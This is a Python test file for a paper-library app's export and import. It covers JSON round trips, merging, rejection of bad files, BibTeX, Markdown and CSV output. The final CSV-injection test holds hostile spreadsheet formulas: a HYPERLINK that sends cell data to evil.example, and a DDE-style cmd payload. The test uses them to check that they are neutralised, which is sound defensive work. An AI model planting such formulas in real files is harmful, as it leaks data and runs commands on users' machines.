"""Export and import: the lossless JSON round trip (property-tested), merging,
bad files, BibTeX that a real parser reads back, Markdown and CSV."""

from __future__ import annotations

import csv
import io
import json
import re
import tempfile
from contextlib import contextmanager
from dataclasses import replace
from datetime import datetime, timezone
from pathlib import Path

import bibtexparser
import pytest
from bibtexparser.middlewares import LatexDecodingMiddleware
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tui.core.export import bibtex_escape, bibtex_key, export, to_bibtex, Item
from tui.core.library import (
    EXPORT_VERSION, ImportFormatError, InvalidSavedSearch, InvalidTag, Library, Record, Snapshot, clean_query,
    format_time, normalize_search_name, normalize_tag,
)
from tui.core.papers import Appearance, Paper
from tui.core.paths import Paths

SETTINGS = settings(max_examples=60, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


@contextmanager
def fresh_library():
    with tempfile.TemporaryDirectory(prefix="papers-lib-") as d:
        lib = Library.open(Paths.default(d))
        try:
            yield lib
        finally:
            lib.close()


def without_time(text: str) -> dict:
    doc = json.loads(text)
    doc.pop("exported_at")
    return doc


# --- strategies ------------------------------------------------------------------

SPECIALS = "{}%&#_$\\~^[]()<>\"'`@,;:*|=\n\t "
any_text = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=60)
nasty_text = st.text(alphabet=st.sampled_from(list(SPECIALS) + list("aZ9éß☃𝔸\u2028\x1b\x07\x85")), max_size=40)
texts = st.one_of(any_text, nasty_text, st.sampled_from([
    "[CLS]", "[/]", "[@click=app.quit]", "@misc{x,", "}\n@article{y,", "100% & #1 $x_2$", "a\\b", "\n\n",
]))
hex_ids = st.text(alphabet="0123456789abcdef", min_size=12, max_size=12)
times = st.datetimes(min_value=datetime(1991, 1, 1), max_value=datetime(2099, 12, 31),
                     timezones=st.just(timezone.utc)).map(format_time)
raw_tags = st.one_of(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=15),
                     st.sampled_from(["Reading Group", "to-read", "ML", "[x]", "ü"]))


def _valid(tag: str) -> bool:
    try:
        normalize_tag(tag)
        return True
    except InvalidTag:
        return False


snapshots = st.builds(
    lambda title, link, arxiv, labels, authors: {
        "title": title, "link": link, "arxiv_id": arxiv, "labels": labels, "authors": authors},
    texts, st.one_of(st.none(), st.just("https://arxiv.org/abs/2408.01234"), texts),
    st.one_of(st.none(), st.sampled_from(["2408.01234", "hep-th/9901001"])),
    st.lists(texts, max_size=3), st.lists(texts, max_size=3))

records = st.fixed_dictionaries({
    "id": hex_ids,
    "bookmarked_at": st.one_of(st.none(), times),
    "tags": st.lists(raw_tags.filter(_valid), max_size=4),
    "note": st.one_of(st.none(), texts),
    "note_created": st.one_of(st.none(), times),
    "note_updated": st.one_of(st.none(), times),
    "read_at": st.one_of(st.none(), times),
    "snapshot": st.one_of(st.none(), snapshots),
})
def _valid_search(d: dict) -> bool:
    try:
        normalize_search_name(d["name"])
        clean_query(d["query"])
        return True
    except InvalidSavedSearch:
        return False


saved = st.fixed_dictionaries({
    "name": raw_tags, "query": texts, "watch": st.booleans(),
    "created_at": st.one_of(st.none(), times), "updated_at": st.one_of(st.none(), times),
}).filter(_valid_search)
exports = st.one_of(
    st.lists(records, max_size=12, unique_by=lambda r: r["id"]).map(
        lambda papers: {"format": "papers-library", "version": 1, "papers": papers}),
    st.tuples(st.lists(records, max_size=8, unique_by=lambda r: r["id"]),
              st.lists(saved, max_size=4, unique_by=lambda d: normalize_search_name(d["name"]))).map(
        lambda t: {"format": "papers-library", "version": 2, "papers": t[0], "saved_searches": t[1]}),
)


# --- the JSON round trip ------------------------------------------------------------

@SETTINGS
@given(exports)
def test_json_export_import_reproduces_the_library_exactly(doc):
    with fresh_library() as a, fresh_library() as b:
        a.transfer.import_json(doc)  # a random library, normalised on the way in
        text = export(a, "all", "json")
        report = b.transfer.import_json(text)
        assert b.all_records() == a.all_records()
        assert set(report.added) == {r.id for r in a.all_records()} and not report.merged
        assert b.saved.all() == a.saved.all()
        assert len(report.searches_added) == len(doc.get("saved_searches", []))
        assert json.loads(text)["version"] == EXPORT_VERSION
        assert without_time(export(b, "all", "json")) == without_time(text)
        gen = b.generation()
        again = b.transfer.import_json(text)  # twice: nothing changes
        assert not again.added and not again.merged and len(again.unchanged) == len(json.loads(text)["papers"])
        assert not again.searches_added and not again.searches_updated
        assert b.generation() == gen and b.all_records() == a.all_records()
        assert b.saved.all() == a.saved.all()


OPS = st.lists(st.tuples(
    st.sampled_from(["bookmark", "unbookmark", "tag", "untag", "note", "read", "unread"]),
    st.sampled_from(["aaaaaaaaaaaa", "bbbbbbbbbbbb", "cccccccccccc"]), texts, raw_tags.filter(_valid)),
    max_size=25)


@SETTINGS
@given(OPS)
def test_round_trip_of_a_library_built_by_its_api(ops):
    with fresh_library() as a, fresh_library() as b:
        for op, pid, text, tag in ops:
            p = Paper(id=pid, title=text or "t", abstract=text, authors=(text,),
                      appearances=(Appearance("d", text or None, 1, 1),))
            {"bookmark": lambda: a.set_bookmark(pid, True, paper=p),
             "unbookmark": lambda: a.set_bookmark(pid, False),
             "tag": lambda: a.add_tags(pid, [tag], paper=p),
             "untag": lambda: a.remove_tags(pid, [tag]),
             "note": lambda: a.set_note(pid, text, paper=p),
             "read": lambda: a.set_read(pid, True),
             "unread": lambda: a.set_read(pid, False)}[op]()
        b.transfer.import_json(export(a, "all", "json"))
        assert b.all_records() == a.all_records()


# --- merging ---------------------------------------------------------------------------

def rec(pid="aaaaaaaaaaaa", **kw) -> dict:
    return {"id": pid, **kw}


def doc(*papers) -> dict:
    return {"format": "papers-library", "version": 1, "papers": list(papers)}


def test_merge_keeps_newer_note_union_of_tags_and_earlier_times():
    with fresh_library() as lib:
        lib.transfer.import_json(doc(
            rec(bookmarked_at="2024-05-01T00:00:00Z", tags=["a"], note="old local",
                note_created="2024-01-01T00:00:00Z", note_updated="2024-02-01T00:00:00Z",
                snapshot={"title": "Local title"}),
            rec("bbbbbbbbbbbb", note="newer local", note_updated="2024-09-01T00:00:00Z"),
            rec("cccccccccccc", read_at="2024-03-01T00:00:00Z")))
        report = lib.transfer.import_json(doc(
            rec(bookmarked_at="2024-04-01T00:00:00Z", tags=["b", "A"], note="new imported",
                note_created="2023-01-01T00:00:00Z", note_updated="2024-06-01T00:00:00Z",
                snapshot={"title": "Imported title"}),
            rec("bbbbbbbbbbbb", note="older imported", note_updated="2024-08-01T00:00:00Z"),
            rec("cccccccccccc", read_at="2024-03-02T00:00:00Z"),
            rec("dddddddddddd", bookmarked_at="2024-01-01T00:00:00+02:00", snapshot={"title": "New"})))
        assert report.added == ("dddddddddddd",)
        assert report.merged == ("aaaaaaaaaaaa",)
        assert report.unchanged == ("bbbbbbbbbbbb", "cccccccccccc")
        assert report.notes_replaced == ("aaaaaaaaaaaa",) and report.notes_kept == ("bbbbbbbbbbbb",)
        assert "1 added, 1 merged, 2 unchanged" in report.summary()
        a = lib.get("aaaaaaaaaaaa")
        assert a.tags == ("a", "b") and a.bookmarked_at == "2024-04-01T00:00:00.000000Z"
        assert (a.note, a.note_created, a.note_updated) == (
            "new imported", "2023-01-01T00:00:00.000000Z", "2024-06-01T00:00:00.000000Z")
        assert a.snapshot.title == "Local title"  # the library's snapshot wins
        assert lib.get("bbbbbbbbbbbb").note == "newer local"
        assert lib.get("cccccccccccc").read_at == "2024-03-01T00:00:00.000000Z"
        assert lib.get("dddddddddddd").bookmarked_at == "2023-12-31T22:00:00.000000Z"  # to UTC
        gen = lib.generation()
        assert lib.changed_since(gen - 1) == ["aaaaaaaaaaaa", "dddddddddddd"]


def test_saved_searches_travel_with_all_and_merge_by_name():
    with fresh_library() as a, fresh_library() as b:
        a.set_bookmark("aaaaaaaaaaaa", True)
        a.saved.save("Diffusion", "diffusion robot", watch=True)
        a.saved.save("older-here", "x")
        assert json.loads(export(a, "bookmarks", "json"))["saved_searches"] == []  # only with everything
        text = export(a, "all", "json")
        assert [s["name"] for s in json.loads(text)["saved_searches"]] == ["diffusion", "older-here"]
        b.saved.save("diffusion", "local edit, made later")
        b.transfer.import_json(json.dumps({"format": "papers-library", "version": 2, "papers": [], "saved_searches": [
            {"name": "older-here", "query": "from an old export", "updated_at": "2001-01-01T00:00:00Z"}]}))
        report = b.transfer.import_json(text)
        assert report.searches_added == () and report.searches_updated == ("older-here",)
        assert report.searches_unchanged == ("diffusion",)  # the library's was edited later
        assert "saved searches: 0 added, 1 updated, 1 unchanged" in report.summary()
        assert b.saved.get("diffusion").query == "local edit, made later"
        assert b.saved.get("older-here").query == "x"
        assert b.saved.get("older-here").created_at == "2001-01-01T00:00:00.000000Z"  # the earlier


def test_a_version_1_export_still_imports():
    with fresh_library() as lib:
        lib.saved.save("keep", "q")
        report = lib.transfer.import_json(json.dumps(doc(rec(tags=["x"]))))
        assert report.added == ("aaaaaaaaaaaa",) and not report.searches_added
        assert "saved searches" not in report.summary()
        assert [s.name for s in lib.saved.all()] == ["keep"]


@pytest.mark.parametrize("data, message", [
    ("{not json", "not JSON"),
    (b"\xff\xfe", "not UTF-8"),
    ("[]", "not a papers library export"),
    (json.dumps({"format": "something-else", "version": 1, "papers": []}), "not a papers library export"),
    (json.dumps({"format": "papers-library", "version": 99, "papers": []}), "newer papers"),
    (json.dumps({"format": "papers-library", "version": 1}), "\"papers\""),
    (json.dumps(doc(rec(), rec(bookmarked_at="yesterday"))), "papers[1].bookmarked_at"),
    (json.dumps(doc(rec(tags=["fine", "a,b"]))), "papers[0].tags[1]"),
    (json.dumps(doc(rec(), rec())), "appears twice"),
    (json.dumps(doc({"id": 5})), "papers[0].id"),
    (json.dumps(doc(rec(note=["x"]))), "papers[0].note"),
    (json.dumps(doc(rec(snapshot={"title": "x", "authors": "A. B."}))), "papers[0].snapshot.authors"),
    (json.dumps({**doc(rec()), "version": 2, "saved_searches": {"a": "b"}}), "\"saved_searches\" is not a list"),
    (json.dumps({**doc(rec()), "version": 2, "saved_searches": [{"name": "a,b", "query": "q"}]}),
     "saved_searches[0].name"),
    (json.dumps({**doc(rec()), "version": 2, "saved_searches": [{"name": "a", "query": ""}]}),
     "saved_searches[0].query"),
    (json.dumps({**doc(rec()), "version": 2, "saved_searches": [{"name": "a", "query": "q", "watch": "yes"}]}),
     "saved_searches[0].watch"),
    (json.dumps({**doc(rec()), "version": 2, "saved_searches": [{"name": "A", "query": "q"},
                                                                 {"name": "a", "query": "r"}]}), "appears twice"),
])
def test_bad_import_changes_nothing(data, message):
    with fresh_library() as lib:
        lib.transfer.import_json(doc(rec(note="keep me", bookmarked_at="2024-01-01T00:00:00Z")))
        lib.saved.save("mine", "q")
        before, gen, searches = lib.all_records(), lib.generation(), lib.saved.all()
        with pytest.raises(ImportFormatError) as e:
            lib.transfer.import_json(data)
        assert message in str(e.value) and "\n" not in str(e.value)
        assert lib.all_records() == before and lib.generation() == gen and lib.saved.all() == searches


def test_json_export_with_catalog_fills_missing_snapshots_only():
    class Catalog:
        def get_many(self, ids):
            return {i: Paper(id=i, title=f"Catalog {i}", abstract="", arxiv_id="2408.01234") for i in ids}

    with fresh_library() as lib:
        lib.set_bookmark("aaaaaaaaaaaa", True)
        lib.set_bookmark("bbbbbbbbbbbb", True, paper=Paper(id="bbbbbbbbbbbb", title="Own", abstract=""))
        papers = {p["id"]: p for p in json.loads(export(lib, "bookmarks", "json", catalog=Catalog()))["papers"]}
        assert papers["aaaaaaaaaaaa"]["snapshot"]["title"] == "Catalog aaaaaaaaaaaa"
        assert papers["bbbbbbbbbbbb"]["snapshot"]["title"] == "Own"


def test_selection_bookmarks_notes_all():
    with fresh_library() as lib:
        lib.set_bookmark("aaaaaaaaaaaa", True)
        lib.set_note("bbbbbbbbbbbb", "n")
        lib.set_read("cccccccccccc", True)
        ids = lambda what: [p["id"] for p in json.loads(export(lib, what, "json"))["papers"]]  # noqa: E731
        assert ids("bookmarks") == ["aaaaaaaaaaaa"]
        assert ids("notes") == ["bbbbbbbbbbbb"]
        assert ids("all") == ["aaaaaaaaaaaa", "bbbbbbbbbbbb", "cccccccccccc"]
        with pytest.raises(ValueError):
            export(lib, "everything", "json")
        with pytest.raises(ValueError):
            export(lib, "all", "docx")


# --- BibTeX --------------------------------------------------------------------------

_UNESCAPES = {r"\textbackslash{}": "\\", r"\textasciitilde{}": "~", r"\textasciicircum{}": "^", "{@}": "@",
              **{"\\" + c: c for c in "{}%&#_$"}}
_UNESCAPE_RE = re.compile("|".join(re.escape(k) for k in sorted(_UNESCAPES, key=len, reverse=True)))


def unescape(value: str) -> str:
    return _UNESCAPE_RE.sub(lambda m: _UNESCAPES[m.group(0)], value)


def split_authors(value: str) -> list[str]:
    out, depth, cur, i = [], 0, "", 0
    while i < len(value):
        if value[i] == "\\" and i + 1 < len(value):
            cur += value[i:i + 2]
            i += 2
            continue
        depth += value[i] == "{"
        depth -= value[i] == "}"
        if depth == 0 and value.startswith(" and ", i):
            out.append(cur)
            cur, i = "", i + 5
            continue
        cur += value[i]
        i += 1
    return out + [cur]


def parse_bib(text: str):
    lib = bibtexparser.parse_string(text)
    assert lib.failed_blocks == [], [b.error for b in lib.failed_blocks]
    return lib


bib_records = st.lists(st.fixed_dictionaries({
    "id": st.one_of(hex_ids, hex_ids.map(lambda h: "abcdef" + h[6:])),  # shared prefixes: key clashes
    "bookmarked_at": times,
    "tags": st.lists(raw_tags.filter(_valid), max_size=3),
    "note": st.one_of(st.none(), texts),
    "snapshot": st.fixed_dictionaries({
        "title": texts, "link": st.one_of(st.none(), st.just("https://x.org/a_b%20c#d~e{f}")),
        "arxiv_id": st.one_of(st.none(), st.just("2408.01234")),
        "labels": st.just([]), "authors": st.lists(texts, max_size=3)}),
}), max_size=8, unique_by=lambda r: r["id"])


@SETTINGS
@given(bib_records)
def test_bibtex_parses_and_fields_round_trip(papers):
    with fresh_library() as lib:
        lib.transfer.import_json(doc(*papers))
        text = export(lib, "all", "bibtex")
        parsed = parse_bib(text)
        recs = {r.id: r for r in lib.all_records()}
        assert len(parsed.entries) == len(recs)
        keys = [e.key for e in parsed.entries]
        assert len(set(keys)) == len(keys)
        for entry, r in zip(parsed.entries, lib.all_records()):
            assert entry.entry_type == "misc"
            assert re.fullmatch(r"[a-z0-9]+(\d{4})?-[0-9a-f]{6,12}", entry.key), entry.key
            f = {k: v.value for k, v in entry.fields_dict.items()}
            title = r.snapshot.title or f"(paper {r.id})"
            assert f["title"].startswith("{") and unescape(f["title"][1:-1]) == title
            if r.note:
                assert unescape(f["note"]) == r.note
            else:
                assert "note" not in f
            names = [a for a in r.snapshot.authors if a.strip()]
            if names:
                got = [unescape(a[1:-1] if a.startswith("{") and a.endswith("}") and " and " in a else a)
                       for a in split_authors(f["author"])]
                assert got == names
            if r.snapshot.arxiv_id:
                assert f["eprint"] == "2408.01234" and f["archivePrefix"] == "arXiv" and f["year"] == "2024"
            if r.snapshot.link:
                assert f["url"] == "https://x.org/a_b%20c#d~e%7Bf%7D"
            if r.tags:
                assert unescape(f["keywords"]) == ", ".join(r.tags)


def test_bibtex_entry_for_a_known_arxiv_paper_and_latex_decoding():
    p = Paper(id="f1395d8ca5ef", title="Cost {of} 100% & #1: a_b $5 \\o/ ~x^2", abstract="",
              arxiv_id="2408.01234", authors=("Ada Lovelace", "Charles Babbage"),
              appearances=(Appearance("d", "Aug 7", 1, 1),))
    with fresh_library() as lib:
        lib.set_bookmark(p.id, True, paper=p)
        lib.set_note(p.id, "Great & cheap: 50% off {really}")
        text = export(lib, "bookmarks", "bibtex")
        assert text.split("\n", 1)[1] == export(lib, "bookmarks", "bibtex").split("\n", 1)[1]  # stable
        assert "@misc{lovelace2024-f1395d," in text
        assert "archivePrefix = {arXiv}" in text and "eprint = {2408.01234}" in text
        assert "url = {https://huggingface.co/papers/2408.01234}" in text
        decoded = bibtexparser.parse_string(text, append_middleware=[LatexDecodingMiddleware()])
        assert decoded.failed_blocks == []
        f = decoded.entries[0].fields_dict
        assert f["note"].value == "Great & cheap: 50% off {really}"
        assert f["author"].value == "Ada Lovelace and Charles Babbage"
        assert "{of} 100% & #1: a_b $5 \\o/ ~x" in f["title"].value


def test_bibtex_keys_are_stable_and_fall_back_to_the_title():
    def item(pid, title, authors=(), arxiv=None):
        return Item(Record(pid, bookmarked_at="2024-01-01T00:00:00.000000Z"), title, None, arxiv, authors, ())

    assert bibtex_key(item("0123456789ab", "The Ünïcode Paper")) == "unicode-012345"
    assert bibtex_key(item("0123456789ab", "x", ("Tanaka, Hiro",), "hep-th/9901001")) == "tanaka1999-012345"
    assert bibtex_key(item("0123456789ab", "!!!")) == "paper-012345"
    a, b = item("abcdef000001", "Same"), item("abcdef000002", "Same")
    keys = [e.key for e in parse_bib(to_bibtex([a, b])).entries]
    assert keys == ["same-abcdef", "same-abcdef000002"]


def test_bibtex_escape_guards_line_starts():
    assert bibtex_escape("a\n  @misc{x}") == "a\n  {@}misc\\{x\\}"
    assert bibtex_escape("mail me@x.org") == "mail me@x.org"


# --- Markdown and CSV -----------------------------------------------------------------

def sample_library(lib: Library) -> None:
    a = Paper(id="aaaaaaaaaaaa", title="[CLS] tokens *matter*", abstract="", arxiv_id="2408.01234",
              appearances=(Appearance("d", "Aug 7", 1, 1),))
    b = Paper(id="bbbbbbbbbbbb", title="Untagged, \"quoted\" paper", abstract="")
    lib.set_bookmark(a.id, True, paper=a)
    lib.add_tags(a.id, ["reading-group", "nlp"])
    lib.set_note(a.id, "first line\nsecond, with \"quotes\"")
    lib.set_bookmark(b.id, True, paper=b)
    lib.set_read(b.id, True)


def test_markdown_reading_list_grouped_by_tag():
    with fresh_library() as lib:
        sample_library(lib)
        md = export(lib, "bookmarks", "md")
    lines = md.splitlines()
    assert lines[0] == "# Reading list"
    heads = [line for line in lines if line.startswith("## ")]
    assert heads == ["## nlp", "## reading-group", "## Untagged"]
    item = "- [\\[CLS\\] tokens \\*matter\\*](<https://huggingface.co/papers/2408.01234>)"
    assert sum(line.startswith(item) for line in lines) == 2  # under both of its tags
    assert "  > first line" in lines and "  > second, with \"quotes\"" in lines
    untagged = lines[lines.index("## Untagged") + 2]
    assert untagged.startswith("- [Untagged, \"quoted\" paper](<https://huggingface.co/papers?q=") and "read" in untagged


def test_csv_has_a_header_and_round_trips_through_the_csv_module():
    with fresh_library() as lib:
        sample_library(lib)
        rows = list(csv.DictReader(io.StringIO(export(lib, "all", "csv"))))
        recs = lib.all_records()
    assert [r["id"] for r in rows] == ["aaaaaaaaaaaa", "bbbbbbbbbbbb"]
    assert rows[0]["title"] == "[CLS] tokens *matter*" and rows[0]["tags"] == "nlp, reading-group"
    assert rows[0]["note"] == "first line\nsecond, with \"quotes\""
    assert rows[0]["arxiv_id"] == "2408.01234" and rows[0]["labels"] == "Aug 7"
    assert rows[1]["read_at"] == recs[1].read_at and rows[1]["note"] == ""
    assert list(rows[0]) == ["id", "title", "link", "arxiv_id", "authors", "labels", "tags", "bookmarked_at",
                             "read_at", "note", "note_created", "note_updated"]


def test_export_falls_back_to_the_snapshot_when_the_digest_is_gone():
    class Catalog:
        def get_many(self, ids):
            return {}

    with fresh_library() as lib:
        sample_library(lib)
        md = export(lib, "all", "md", catalog=Catalog())
        assert "[CLS\\] tokens" in md
        lib.set_note("eeeeeeeeeeee", "a note on a paper never seen")
        assert "(paper eeeeeeeeeeee)" in export(lib, "notes", "md", catalog=Catalog())


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised():
    # OWASP "CSV injection": a cell starting with = + - @ (or tab / carriage
    # return) is a formula in Excel, LibreOffice and Google Sheets.
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with fresh_library() as lib:
        p = Paper(id="cccccccccccc", title=hostile, abstract="", authors=("@SUM(1+1)*cmd|' /C calc'!A0",))
        lib.set_bookmark(p.id, True, paper=p)
        lib.add_tags(p.id, ["-2+3"])
        lib.set_note(p.id, "+1 this paper\nsecond line")
        q = Paper(id="dddddddddddd", title="Plain", abstract="", authors=("\tTabbed",))
        lib.set_bookmark(q.id, True, paper=q)
        lib.set_note(q.id, "\rreturn first")
        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(export(lib, "all", "csv")))}
    row = rows["cccccccccccc"]
    assert row["title"] == "'" + hostile
    assert row["authors"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["tags"] == "'-2+3"
    assert row["note"] == "'+1 this paper\nsecond line"
    from tui.core.export import csv_cell
    assert csv_cell("\tTabbed") == "'\tTabbed" and csv_cell("\rreturn") == "'\rreturn"
    assert rows["dddddddddddd"]["title"] == "Plain"
    for r in rows.values():  # nothing else is touched
        assert not any(v[:1] in ("=", "+", "-", "@", "\t", "\r") for v in r.values())
        assert r["bookmarked_at"][:1].isdigit()
